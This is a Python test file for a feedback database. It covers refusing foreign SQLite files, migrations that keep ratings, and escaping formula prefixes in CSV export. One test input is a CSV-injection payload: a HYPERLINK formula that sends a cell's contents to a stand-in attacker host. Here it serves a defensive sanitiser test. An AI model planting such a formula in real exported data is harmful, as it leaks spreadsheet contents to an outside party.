"""The feedback store: only our own files are touched, migrations keep every rating, and
the CSV export cannot smuggle a formula into a spreadsheet."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
from pathlib import Path

import pytest
from click.testing import CliRunner

from agent.cli import cli
from agent.errors import ConfigError
from agent.web.feedback import (
    APPLICATION_ID,
    MIGRATIONS,
    SCHEMA_VERSION,
    FeedbackStore,
    export,
    spreadsheet_safe,
)
from tests.cli_helpers import run_cli

# The store as the first, unversioned release made it: same tables, no application id.
UNVERSIONED = MIGRATIONS[0]


def header(path: Path) -> tuple[int, int]:
    with sqlite3.connect(path) as conn:
        return (conn.execute("PRAGMA application_id").fetchone()[0],
                conn.execute("PRAGMA user_version").fetchone()[0])


def test_a_new_store_is_marked_as_ours_at_the_current_version(tmp_path: Path) -> None:
    store = FeedbackStore(tmp_path / "fb.sqlite3")
    draft_id = store.add_draft(email="late", draft="Sorry.", subject=None, source="offline",
                               model=None, tone="warm")
    store.add_feedback(rating="up", draft_id=draft_id)
    assert header(store.path) == (APPLICATION_ID, SCHEMA_VERSION)
    assert [r["rating"] for r in store.rows()] == ["up"]


def foreign_db(path: Path) -> bytes:
    with sqlite3.connect(path) as conn:
        conn.execute("CREATE TABLE invoices (id INTEGER PRIMARY KEY, total REAL)")
        conn.execute("INSERT INTO invoices (total) VALUES (12.5)")
    return path.read_bytes()


@pytest.mark.parametrize("make", ["other tables", "other app id", "not sqlite"])
def test_export_refuses_a_file_that_is_not_ours_and_leaves_it_alone(
        tmp_path: Path, make: str) -> None:
    path = tmp_path / "other.db"
    if make == "other tables":
        before, needle = foreign_db(path), "it holds tables invoices"
    elif make == "other app id":
        with sqlite3.connect(path) as conn:
            conn.execute("PRAGMA application_id = 1234")
            conn.execute("CREATE TABLE drafts (x)")
        before, needle = path.read_bytes(), "another program's file: application id 0x4d2"
    else:
        path.write_text("name,total\nacme,12.5\n" * 20)
        before, needle = path.read_bytes(), "file is not a database"
    run = run_cli("feedback", "export", "--db", str(path), cwd=tmp_path)
    assert run.code == 4, run.err
    lines = run.err.strip().splitlines()
    assert len(lines) == 1 and "Traceback" not in run.err
    assert lines[0].startswith(f"error: {path} is not a calmreply feedback database (")
    assert needle in lines[0]
    assert path.read_bytes() == before, "the file must not be changed"
    with pytest.raises(ConfigError, match="is not a calmreply feedback database"):
        FeedbackStore(path).add_feedback(rating="up", text="x")  # the desk refuses it too
    assert path.read_bytes() == before


def test_serve_refuses_a_db_that_is_not_ours_in_one_line(tmp_path: Path) -> None:
    path = tmp_path / "other.db"
    before = foreign_db(path)
    run = run_cli("serve", "--db", str(path), "--port", "0", cwd=tmp_path, timeout=30)
    assert run.code == 4, run.err
    assert run.err.strip().splitlines()[-1].startswith(
        f"error: {path} is not a calmreply feedback database (it holds tables invoices)")
    assert path.read_bytes() == before


def test_an_unversioned_store_keeps_its_ratings_and_is_adopted(tmp_path: Path) -> None:
    path = tmp_path / "old.sqlite3"
    with sqlite3.connect(path) as conn:
        conn.executescript(UNVERSIONED)
        conn.execute("INSERT INTO drafts VALUES ('d1', '2026-01-01', 'offline', NULL, 'warm', "
                     "'late', NULL, 'Sorry.')")
        conn.execute("INSERT INTO feedback (created, draft_id, rating, comment) "
                     "VALUES ('2026-01-02', 'd1', 'down', 'too curt')")
    assert header(path) == (0, 0)
    exported = [json.loads(line) for line in export(FeedbackStore(path), "jsonl").splitlines()]
    assert [(r["rating"], r["comment"]) for r in exported] == [("down", "too curt")]
    assert header(path) == (0, 0), "export reads an old store without writing to it"
    FeedbackStore(path).add_feedback(rating="up", draft_id="d1")  # the desk adopts it
    assert header(path) == (APPLICATION_ID, SCHEMA_VERSION)
    assert [r["rating"] for r in FeedbackStore(path).rows()] == ["down", "up"]


def test_a_later_migration_runs_once_and_keeps_every_rating(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    store = FeedbackStore(tmp_path / "fb.sqlite3")
    store.add_feedback(rating="up", text="Thanks for waiting.", comment="fine")
    step = "ALTER TABLE feedback ADD COLUMN agent TEXT; UPDATE feedback SET agent = 'unknown'"
    monkeypatch.setattr("agent.web.feedback.MIGRATIONS", (*MIGRATIONS, step))
    monkeypatch.setattr("agent.web.feedback.SCHEMA_VERSION", SCHEMA_VERSION + 1)
    newer = FeedbackStore(store.path)
    newer.add_feedback(rating="down", text="No.")
    assert header(store.path) == (APPLICATION_ID, SCHEMA_VERSION + 1)
    with sqlite3.connect(store.path) as conn:
        rows = conn.execute("SELECT rating, agent FROM feedback ORDER BY id").fetchall()
    assert rows == [("up", "unknown"), ("down", None)]
    FeedbackStore(store.path).prepare()  # already there: nothing runs twice
    monkeypatch.undo()
    with pytest.raises(ConfigError, match=r"written by a newer calmreply \(feedback schema "
                                          rf"{SCHEMA_VERSION + 1}; this one knows up to "):
        FeedbackStore(store.path).rows().__next__()


def test_export_of_a_missing_db_creates_nothing(tmp_path: Path) -> None:
    path = tmp_path / "none.sqlite3"
    out = CliRunner().invoke(cli, ["feedback", "export", "--db", str(path)])
    assert out.exit_code == 0 and "no feedback yet" in out.output
    assert not path.exists()


@pytest.mark.parametrize(("text", "cell"), [
    ('=HYPERLINK("http://evil.example/?q="&A1,"Click")',
     '\'=HYPERLINK("http://evil.example/?q="&A1,"Click")'),
    ("+1 555 0100", "'+1 555 0100"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("Fine, thanks", "Fine, thanks"),
    ("a = b", "a = b"),
])
def test_csv_export_neutralises_formula_prefixes(tmp_path: Path, text: str, cell: str) -> None:
    assert spreadsheet_safe(text) == cell
    store = FeedbackStore(tmp_path / "fb.sqlite3")
    draft_id = store.add_draft(email=text, draft="Sorry about that.", subject=None,
                               source="offline", model=None, tone="warm")
    store.add_feedback(rating="down", draft_id=draft_id, comment=text)
    rows = list(csv.DictReader(io.StringIO(export(store, "csv"), newline="")))
    assert rows[0]["comment"] == cell and rows[0]["email"] == cell
    assert json.loads(export(store, "jsonl"))["comment"] == text  # JSONL stays exact
